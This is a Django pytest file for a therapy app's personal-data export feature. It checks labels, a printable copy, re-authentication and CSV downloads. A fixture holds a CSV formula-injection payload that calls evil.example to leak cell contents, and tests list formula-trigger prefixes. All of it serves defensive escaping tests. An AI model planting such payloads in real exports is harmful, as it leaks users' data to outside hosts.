"""Your data in human words (issue 11, item 9): labels not keys, a printable copy with sensitive parts
unticked, CSV per tool with formula-safe cells, and questionnaires as one FHIR Bundle."""

import csv
import datetime
import io
import re

import pytest

from trustrepair.core import audit, data_copy, privacy
from trustrepair.exercises import services as tool_services
from trustrepair.exercises.models import JournalEntry, ThoughtEmotion, ThoughtRecord, TriggerLog
from trustrepair.safety.models import RiskEvent, SafetyPlan

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def main_text(response) -> str:
    html = response.content.decode().split("<main", 1)[1].split("</main>", 1)[0]
    return re.sub(r"<[^>]+>", " ", html)


@pytest.fixture
def alice_with_data(client_alice, partner_bob, therapist_tess):
    tool_services.create_entry(client_alice, model=JournalEntry, body="I noticed I wanted to check.", is_draft=False)
    tool_services.create_entry(
        client_alice,
        model=TriggerLog,
        situation=HOSTILE,
        urge=TriggerLog.Urge.choices[0][0],
        intensity=6,
        response=TriggerLog.Response.choices[0][0],
        what_helped="+1 breathing\n-then a walk",
    )
    record = tool_services.create_entry(
        client_alice, model=ThoughtRecord, situation="He was late", automatic_thought="He is hiding something"
    )
    ThoughtEmotion.objects.create(record=record, name="anxious", intensity_before=85, intensity_after=40)
    SafetyPlan.objects.create(owner=client_alice, warning_signs="I stop sleeping", people_to_ask="Sam 555 0100")
    RiskEvent.objects.create(user=client_alice, source="x", category="suicidal_thoughts", kind="text", excerpt="o")
    audit.record_access(actor=therapist_tess, subject=client_alice, action="read", obj="measures.history", reason="p")
    audit.record_access(actor=therapist_tess, subject=client_alice, action="read", obj=record, reason="prep")
    tool_services.create_entry(partner_bob, model=JournalEntry, body="Bob's own private words", is_draft=False)
    return client_alice


# ---- the registry --------------------------------------------------------------------------------
def test_every_contributor_has_a_label_a_line_in_words_and_its_own_address():
    contributors = privacy.contributors()
    assert [c.name for c in contributors if not c.labelled or not c.description] == []
    slugs = [c.slug for c in contributors]
    assert len(slugs) == len(set(slugs)) and all(slugs)
    labels = {c.name: c.label for c in contributors}
    assert labels["exercises.journal_entrys"] == "Journal entries"
    assert labels["safety.risk_events"] == "Times help was shown"
    sensitive = {c.name for c in contributors if c.sensitive}
    assert {"safety.plan", "safety.risk_events"} <= sensitive
    assert "exercises.journal_entrys" not in sensitive


def test_a_contributor_registered_without_words_still_gets_a_readable_label():
    privacy.register("example.some_things", export=lambda user: [])
    try:
        contributor = privacy.by_slug("some-things")
        assert contributor.label == "Some things" and not contributor.labelled
    finally:
        privacy._registry.pop("example.some_things")


# ---- the Your data page --------------------------------------------------------------------------
def test_your_data_page_names_every_section_in_words_and_never_an_internal_key(client, alice_with_data):
    client.force_login(alice_with_data)
    response = client.get("/account/data/")
    text = main_text(response)
    for contributor in privacy.contributors():
        assert contributor.label in text
        if re.search(r"[._]", contributor.name):  # a one-word key ("account") is also a plain word
            assert contributor.name not in text
    assert re.findall(r"\b\w+_\w+\b", text) == []  # no snake_case names
    apps = {c.name.split(".")[0] for c in privacy.contributors() if "." in c.name} | {"booking", "measures"}
    dotted = re.findall(r"\b([a-z]+)\.[a-z_]{2,}\b", text)  # such as exercises.journal_entrys or measures.history
    assert [name for name in dotted if name in apps] == []
    assert "Tess" in text and "thought record" in text  # who looked, and at what, in words
    for link in ["/account/data/copy/", "/account/data/export/", "/account/data/questionnaires.json"]:
        assert f'href="{link}"' in response.content.decode()
    assert 'href="/account/data/tables/journal-entries.csv"' in response.content.decode()


# ---- the printable copy --------------------------------------------------------------------------
def test_the_printable_copy_asks_for_the_password_again_first(client, client_alice):
    client.force_login(client_alice)
    response = client.get("/account/data/copy/")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/reauthenticate/")


def test_the_sensitive_parts_start_unticked_and_the_rest_ticked(reauthenticated, alice_with_data):
    client = reauthenticated(alice_with_data)
    response = client.get("/account/data/copy/")
    page = response.content.decode()
    assert response.status_code == 200
    assert re.search(r'value="safety-plan" id="section-safety-plan"(?! checked)', page)
    assert re.search(r'value="times-help-was-shown" id="section-times-help-was-shown"(?! checked)', page)
    assert re.search(r'value="journal-entries" id="section-journal-entries" checked', page)
    assert "section-groups" not in page  # parts with nothing in them are not offered
    assert response["X-Robots-Tag"].startswith("noindex") and "no-store" in response["Cache-Control"]


def test_the_copy_shows_only_what_was_ticked_in_words_and_only_mine(reauthenticated, alice_with_data):
    alice_with_data.time_zone = "Australia/Sydney"
    alice_with_data.save(update_fields=["time_zone"])
    entry = JournalEntry.objects.get(owner=alice_with_data)
    entry_when = data_copy.when(entry.created_at, data_copy.zone_for(alice_with_data))
    client = reauthenticated(alice_with_data)
    response = client.get(
        "/account/data/copy/?show=1&section=journal-entries&section=thought-records&section=trigger-and-urge-log"
    )
    assert response.status_code == 200
    text = main_text(response)
    assert "I noticed I wanted to check." in text and "He is hiding something" in text
    assert "Automatic thought" in text and "Feelings" in text  # field labels, not keys
    assert entry_when in text  # in her own time zone (Sydney)
    assert "I stop sleeping" not in text  # the safety plan was not ticked
    assert "Bob" not in text  # never anyone else's data
    assert re.findall(r"\b\w+_\w+\b", text) == []
    assert 'name="robots" content="noindex"' in response.content.decode()
    assert response["X-Robots-Tag"].startswith("noindex") and "no-store" in response["Cache-Control"]


def test_the_safety_plan_is_in_the_copy_when_ticked_with_its_own_headings(reauthenticated, alice_with_data):
    client = reauthenticated(alice_with_data)
    text = main_text(client.get("/account/data/copy/?show=1&section=safety-plan"))
    assert "Signs that a hard time is starting" in text and "I stop sleeping" in text


def test_showing_with_nothing_ticked_asks_again_kindly(reauthenticated, alice_with_data):
    client = reauthenticated(alice_with_data)
    response = client.get("/account/data/copy/?show=1")
    assert response.status_code == 200 and "Tick at least one part" in response.content.decode()


def test_the_generic_rendering_escapes_humanises_and_localises():
    zone = datetime.timezone(datetime.timedelta(hours=10))
    html = data_copy.render_section(
        [{"created_at": datetime.datetime(2026, 1, 2, 23, 30, tzinfo=datetime.UTC), "what_happened": "<b>x</b>"}],
        zone=zone,
    )
    assert "<h3" in html and "3 Jan 2026, 09:30" in html  # the next morning in UTC+10
    assert "What happened" in html and "&lt;b&gt;x&lt;/b&gt;" in html
    assert data_copy.plain(38.0, zone) == "38" and data_copy.plain(True, zone) == "Yes"
    assert data_copy.plain("2026-13-45T10:00", zone) == "2026-13-45T10:00"  # looks like a date, is not one
    assert "Nothing" not in data_copy.render_section({"a": "x", "empty_part": {"b": "", "c": []}}, zone=zone)
    assert "Empty part" not in data_copy.render_section({"a": "x", "empty_part": {"b": "", "c": []}}, zone=zone)


# ---- CSV -----------------------------------------------------------------------------------------
def test_a_cell_that_could_run_as_a_formula_is_written_as_text():
    for hostile in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]:
        assert data_copy.safe_cell(hostile) == "'" + hostile
    assert data_copy.safe_cell("plain words") == "plain words" and data_copy.safe_cell(None) == ""


def test_each_tool_downloads_as_csv_with_formula_safe_cells(reauthenticated, alice_with_data):
    client = reauthenticated(alice_with_data)
    response = client.get("/account/data/tables/trigger-and-urge-log.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="trustrepair-trigger-and-urge-log-')
    assert "no-store" in response["Cache-Control"] and response["X-Robots-Tag"].startswith("noindex")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    headers, row = rows[0], rows[1]
    assert "What was happening" in headers and "Written" in headers
    assert row[headers.index("What was happening")] == "'" + HOSTILE
    assert row[headers.index("What helped")] == "'+1 breathing\n-then a walk"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
    assert row[headers.index("The urge")] == TriggerLog.Urge.choices[0][1]  # the choice in words


def test_a_thought_record_csv_shows_the_feelings_before_and_after(reauthenticated, alice_with_data):
    client = reauthenticated(alice_with_data)
    rows = list(csv.reader(io.StringIO(client.get("/account/data/tables/thought-records.csv").content.decode())))
    assert rows[1][rows[0].index("Feelings (before → after)")] == "anxious 85 → 40"


def test_csv_needs_the_password_again_and_an_unknown_table_is_not_found(client, reauthenticated, alice_with_data):
    client.force_login(alice_with_data)
    assert client.get("/account/data/tables/journal-entries.csv").status_code == 302
    client = reauthenticated(alice_with_data)
    assert client.get("/account/data/tables/your-account.csv").status_code == 404
    journal = client.get("/account/data/tables/journal-entries.csv").content.decode()
    assert "I noticed I wanted to check." in journal and "Bob" not in journal


def test_a_therapist_is_not_offered_tool_spreadsheets_or_questionnaires(client, therapist_tess):
    client.force_login(therapist_tess)
    page = client.get("/account/data/").content.decode()
    assert "/account/data/tables/" not in page and "/account/data/questionnaires.json" not in page
    assert "/account/data/copy/" in page and "/account/data/export/" in page
